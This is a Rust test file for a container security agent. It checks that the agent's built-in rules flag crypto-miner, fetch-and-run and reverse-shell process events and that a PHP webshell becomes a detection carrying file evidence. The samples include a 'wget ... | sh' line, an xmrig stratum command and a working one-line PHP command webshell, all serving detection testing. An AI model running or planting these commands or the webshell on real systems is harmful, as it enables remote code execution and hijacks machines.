//! Detection: events through the shipped rules into upload-ready detections, repeats
//! suppressed, webshell verdicts with file evidence.

use podwarden_agent::detect::{RuleDetector, severity_of_score, webshell_detection};
use podwarden_agent::ids::IdGen;
use podwarden_api::event::{
    Connection, Direction, Event, EventBody, FdInfo, FdKind, L4Protocol, Process, TcpState,
};
use podwarden_api::uplink::{AlertSeverity, AlertType, Detection};
use podwarden_rules::RuleSet;

fn exec(pid: u32, exe: &str, argv: &[&str], stdin: Option<FdInfo>) -> Event {
    let mut process = Process::new(pid, exe, argv);
    process.start_ts = 1_000 + u64::from(pid);
    process.stdin = stdin;
    Event {
        v: 1,
        id: u64::from(pid),
        ts: 1_700_000_000_000_000_000,
        container: None,
        body: EventBody::ProcessExec { process },
    }
}

fn detections(detector: &mut RuleDetector, ids: &IdGen, event: &Event) -> Vec<Detection> {
    let mut out = Vec::new();
    detector.evaluate(event, ids, &mut out);
    out
}

fn check(event: Event, expected: &[(&str, AlertType, AlertSeverity)]) {
    let ids = IdGen::with_prefix("test".into());
    let mut detector = RuleDetector::new(RuleSet::builtin());
    let got: Vec<(String, AlertType, AlertSeverity)> = detections(&mut detector, &ids, &event)
        .into_iter()
        .map(|d| (d.rule_id, d.alert_type, d.severity))
        .collect();
    let expected: Vec<(String, AlertType, AlertSeverity)> = expected
        .iter()
        .map(|(id, t, s)| (id.to_string(), *t, *s))
        .collect();
    assert_eq!(got, expected, "{event:?}");
}

fn socket_stdin() -> FdInfo {
    FdInfo {
        kind: FdKind::Ipv4,
        target: "socket:[99]".into(),
        connection: Some(Connection {
            protocol: L4Protocol::Tcp,
            local: "127.0.0.1:40000".parse().unwrap(),
            remote: "127.0.0.1:4444".parse().unwrap(),
            state: Some(TcpState::Established),
            direction: Direction::Outbound,
        }),
    }
}

#[test]
fn events_through_the_shipped_rules() {
    check(
        exec(
            10,
            "/bin/busybox",
            &[
                "sh",
                "-c",
                "sleep 3",
                "xmrig",
                "-o",
                "stratum+tcp://pool.example:3333",
            ],
            None,
        ),
        &[("PW-PROC-002", AlertType::Process, AlertSeverity::Critical)],
    );
    check(
        exec(
            11,
            "/bin/busybox",
            &["sh", "-c", "wget -q -O - http://127.0.0.1:8000/x.sh | sh"],
            None,
        ),
        &[("PW-PROC-003", AlertType::Process, AlertSeverity::Critical)],
    );
    check(
        exec(12, "/bin/busybox", &["sh"], Some(socket_stdin())),
        &[("PW-NET-001", AlertType::Network, AlertSeverity::Critical)],
    );
    check(exec(13, "/bin/ls", &["ls", "-la", "/var/www"], None), &[]);
    check(
        exec(14, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], None),
        &[],
    );
}

#[test]
fn detections_carry_the_event_and_unique_ids_and_repeats_are_suppressed() {
    let ids = IdGen::with_prefix("boot".into());
    let mut detector = RuleDetector::new(RuleSet::builtin());
    let event = exec(20, "/bin/sh", &["sh", "-c", "x", "stratum+tcp://p:1"], None);
    let first = detections(&mut detector, &ids, &event);
    assert_eq!(first.len(), 1);
    let d = &first[0];
    assert!(d.id.starts_with("boot-det-"), "{}", d.id);
    assert_eq!(d.ts, 1_700_000_000_000);
    assert_eq!(d.event.as_ref(), Some(&event));
    assert!(
        d.description.contains("stratum+tcp://p:1"),
        "{}",
        d.description
    );
    assert!(d.advice.is_some());
    // The same rule on the same process with the same output: once.
    assert!(detections(&mut detector, &ids, &event).is_empty());
    assert_eq!(detector.repeats, 1);
    // Another process with the same command line is another detection, with another id.
    let other = detections(
        &mut detector,
        &ids,
        &exec(21, "/bin/sh", &["sh", "-c", "x", "stratum+tcp://p:1"], None),
    );
    assert_eq!(other.len(), 1);
    assert_ne!(other[0].id, d.id);
}

#[test]
fn webshell_verdicts_become_detections_with_evidence() {
    let scanner = podwarden_webshell::Scanner::new(&[]).unwrap();
    let content = b"<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; } ?>";
    let verdict = scanner
        .scan_bytes(std::path::Path::new("/var/www/html/up.php"), content)
        .unwrap();
    let ids = IdGen::with_prefix("b".into());
    let d = webshell_detection(
        &ids,
        &verdict,
        "/var/www/html/up.php",
        "ab12",
        content.len() as u64,
        None,
        None,
    );
    assert_eq!(d.alert_type, AlertType::Webshell);
    assert_eq!(d.severity, severity_of_score(verdict.score));
    let file = d.file.unwrap();
    assert_eq!(
        (file.path.as_str(), file.sha256.as_deref(), file.size),
        (
            "/var/www/html/up.php",
            Some("ab12"),
            Some(content.len() as u64)
        )
    );
    assert_eq!(file.score, Some(verdict.score));
    assert_eq!(file.matches.len(), verdict.rules.len());
    assert!(!file.matches.is_empty());
    for (score, severity) in [
        (95, AlertSeverity::Critical),
        (80, AlertSeverity::High),
        (60, AlertSeverity::Medium),
        (10, AlertSeverity::Low),
    ] {
        assert_eq!(severity_of_score(score), severity, "{score}");
    }
}
